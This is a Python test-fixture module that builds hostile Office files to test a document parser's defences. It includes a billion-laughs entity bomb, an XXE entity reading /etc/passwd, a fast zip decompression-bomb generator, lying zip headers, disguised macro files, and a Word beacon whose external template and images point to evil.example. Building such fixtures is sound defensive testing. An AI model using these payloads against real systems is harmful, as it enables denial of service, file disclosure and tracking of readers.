"""Excel and Word files that somebody made to do harm: bombs, entities, lies; written byte by byte."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from openpyxl import Workbook

DOCTYPE = b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY a "' + b"lol" * 20 + b'">'
LAUGHS = (
    DOCTYPE
    + b"".join(b'<!ENTITY %c "%b">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in range(ord("b"), ord("k")))
    + b"]>\n<a>&j;</a>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
ENCRYPTED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512 + "Workbook".encode("utf-16-le") + b"\0" * 512


def workbook(rows: list[list[object]] | None = None) -> bytes:
    """Return a plain workbook."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows or [["专业", "人数"], ["焊接", 30]]:
        sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def replaced(package: bytes, parts: Mapping[str, bytes | None]) -> bytes:
    """Return a zip with other parts; ``None`` takes one out."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(package)) as source,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=3) as target,
    ):
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, data in parts.items():
            if data is not None:
                target.writestr(name, data)
    return made.getvalue()


def part(package: bytes, name: str) -> bytes:
    """Return a part of a zip."""
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        return source.read(name)


def bomb(package: bytes, name: str, head: bytes, body: bytes, times: int, tail: bytes) -> bytes:
    """Return a zip whose part ``name`` is ``head``, ``times`` times ``body`` and ``tail``.

    It is deflated once and the result repeated: a file of gigabytes is made in a moment.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    begin = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(body) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(tail) + packer.flush()
    checked = zlib.crc32(head)
    for _ in range(times):
        checked = zlib.crc32(body, checked)
    size = len(head) + times * len(body) + len(tail)
    return _with_entry(
        replaced(package, {name: None}), name, begin + middle * times + end, size, zlib.crc32(tail, checked)
    )


def lying(package: bytes, name: str, declared: int) -> bytes:
    """Return a zip that states another size for a part than it has."""
    data = bytearray(package)
    at = data.rindex(name.encode()) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    struct.pack_into("<I", data, at + 24, declared)
    return bytes(data)


def crowded(count: int) -> bytes:
    """Return a zip of so many empty parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as target:
        for number in range(count):
            target.writestr(f"xl/{number}", b"")
    return made.getvalue()


def twice(package: bytes, name: str) -> bytes:
    """Return a zip that has a part two times."""
    data = part(package, name)
    return _with_entry(package, name, zlib.compress(data, 9)[2:-4], len(data), zlib.crc32(data))


def _with_entry(package: bytes, name: str, deflated: bytes, size: int, checked: int) -> bytes:
    """Append an entry that is deflated already."""
    end = package.rindex(b"PK\x05\x06")
    count, length, start = struct.unpack_from("<HII", package, end + 10)
    encoded = name.encode()
    fixed = (20, 0, 8, 0, 33, checked, len(deflated), size, len(encoded))
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", *fixed, 0) + encoded + deflated
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, *fixed, 0, 0, 0, 0, 0, start) + encoded
    directory = package[start : start + length] + entry
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(directory), start + len(local), 0)
    return package[:start] + local + directory + tail


# --- Workbooks -------------------------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"
_SPACE = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_END = b"</sheetData></worksheet>"
_STRINGS = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def sheet_bomb() -> bytes:
    """A sheet of half a gigabyte, in a file of 22 megabytes."""
    rows = b"".join(b'<row><c t="inlineStr"><is><t>%06d</t></is></c></row>' % number for number in range(100_000))
    return bomb(workbook(), SHEET, _SPACE, rows, 85, _END)


def small_sheet_bomb() -> bytes:
    """A sheet of 300 megabytes, all of it filled: within the limit of a package, beyond that of a sheet."""
    rows = b"".join(b'<row><c t="inlineStr"><is><t>%06d</t></is></c></row>' % number for number in range(100_000))
    return bomb(workbook(), SHEET, _SPACE, rows, 60, _END)


def strings_bomb() -> bytes:
    """Shared texts of 390 megabytes."""
    body = b"<si><t>" + b"A" * 3_000_000 + b"</t></si>"
    return bomb(_sharing(workbook(), b""), "xl/sharedStrings.xml", _STRINGS, body, 130, b"</sst>")


def _sharing(book: bytes, texts: bytes) -> bytes:
    """Return a workbook with shared texts, and the type that has them read."""
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    override = b'<Override PartName="/xl/sharedStrings.xml" ContentType="%b"/></Types>' % kind
    types = part(book, "[Content_Types].xml").replace(b"</Types>", override)
    return replaced(book, {"[Content_Types].xml": types, "xl/sharedStrings.xml": _STRINGS + texts + b"</sst>"})


def empty_rows() -> bytes:
    """A sheet formatted down to its last row, as some people do, with two rows filled."""
    book = workbook()
    filled = part(book, SHEET)
    rows = b"".join(
        b'<row r="%d" s="1" customFormat="1">' % number
        + b"".join(b'<c r="%c%d" s="0"/>' % (letter, number) for letter in b"ABCD")
        + b"</row>"
        for number in range(3, 1_048_577)
    )
    return replaced(book, {SHEET: filled.replace(b"</sheetData>", rows + b"</sheetData>")})


def one_text_for_all() -> bytes:
    """A text of 30,000 characters that 100,000 cells share."""
    cells = b"".join(b'<row><c t="s"><v>0</v></c></row>' for _ in range(100_000))
    book = replaced(workbook(), {SHEET: _SPACE + cells + _END})
    return _sharing(book, b"<si><t>%b</t></si>" % (b"A" * 30_000))


def cells(*written: bytes) -> bytes:
    """A sheet of these cells, as XML, in one row below a head."""
    head = b'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
    return replaced(workbook(), {SHEET: _SPACE + head + b'<row r="2">' + b"".join(written) + b"</row>" + _END})


def macro_workbook() -> bytes:
    """A workbook with a macro, as Excel saves it as .xlsm."""
    book = workbook()
    types = part(book, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return replaced(book, {"[Content_Types].xml": types, "xl/vbaProject.bin": OLD})


# --- Word files ------------------------------------------------------------------------------------------------


def document() -> bytes:
    """Return the packaged reference as a Word file."""
    from qreport.backends.docx.reference_file import PACKAGED

    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as target:
        for path in sorted(PACKAGED.rglob("*")):
            if path.is_file():
                target.write(path, path.relative_to(PACKAGED).as_posix())
    return made.getvalue()


def macro_document() -> bytes:
    """Return a Word file with a macro, renamed to .docx."""
    word = document()
    types = part(word, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return replaced(word, {"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def beacon_document() -> bytes:
    """Return a Word file that has a template, a picture and an object elsewhere, to be loaded when it is opened."""
    word = document()
    space = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="%b/attachedTemplate" Target="http://evil.example/a.dotm" '
        b'TargetMode="External"/>'
        b'<Relationship Id="rId2" Type="%b/image" Target="http://evil.example/a.png" TargetMode="External"/>'
        b"</Relationships>"
    ) % (space, space)
    bullet = (
        b'<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        b'<v:imagedata xmlns:r="%b" r:id="rId2" src="http://evil.example/b.png"/></v:shape></w:pict></w:numPicBullet>'
    ) % space
    numbering = part(word, "word/numbering.xml")
    at = numbering.index(b"<w:abstractNum ")
    settings = part(word, "word/settings.xml")
    inside = settings.index(b">", settings.index(b"<w:settings")) + 1
    template = b'<w:attachedTemplate xmlns:r="%b" r:id="rId1"/>' % space
    return replaced(
        word,
        {
            "word/numbering.xml": numbering[:at] + bullet + numbering[at:],
            "word/settings.xml": settings[:inside] + template + settings[inside:],
            "word/_rels/settings.xml.rels": relations,
            "word/_rels/numbering.xml.rels": relations,
        },
    )


def object_document() -> bytes:
    """Return a Word file that holds an object, which a double click would start, in its body and in its numbering."""
    word = document()
    space = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = b'<Relationship Id="rId90" Type="%b/oleObject" Target="embeddings/evil.bin"/></Relationships>' % space
    shown = (
        b'<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="%b" Type="Embed" '
        b'ProgID="Package" ShapeID="a" DrawAspect="Icon" ObjectID="b" r:id="rId90"/></w:object>'
    ) % space
    numbering, body = part(word, "word/numbering.xml"), part(word, "word/document.xml")
    at, inside = numbering.index(b"<w:abstractNum "), body.index(b"<w:body>") + len(b"<w:body>")
    bullet = b'<w:numPicBullet w:numPicBulletId="0">%b</w:numPicBullet>' % shown
    none = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    relations = part(word, "word/_rels/document.xml.rels")
    types = part(word, "[Content_Types].xml")
    known = b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>'
    return replaced(
        word,
        {
            "[Content_Types].xml": types.replace(b"</Types>", known),
            "word/numbering.xml": numbering[:at] + bullet + numbering[at:],
            "word/document.xml": body[:inside] + b"<w:p><w:r>%b</w:r></w:p>" % shown + body[inside:],
            "word/_rels/document.xml.rels": relations.replace(b"</Relationships>", relation),
            "word/_rels/numbering.xml.rels": none.replace(b"</Relationships>", relation),
            "word/embeddings/evil.bin": OLD + b"evil",
        },
    )


def paged_document(page: bytes) -> bytes:
    """Return a Word file whose last section has this size, these margins and this grid, as XML."""
    word = document()
    body = part(word, "word/document.xml")
    begin, end = body.rindex(b"<w:sectPr"), body.rindex(b"</w:sectPr>")
    return replaced(word, {"word/document.xml": body[:begin] + b"<w:sectPr>" + page + body[end:]})
